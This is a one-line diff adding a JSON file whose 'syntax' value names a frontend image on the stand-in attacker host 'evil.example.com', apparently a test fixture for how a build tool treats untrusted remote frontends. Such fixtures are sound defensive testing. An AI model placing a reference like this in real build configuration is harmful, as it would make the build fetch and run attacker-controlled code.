@@ -1,0 +1,1 @@
+{"syntax": "evil.example.com/json-frontend:2"}
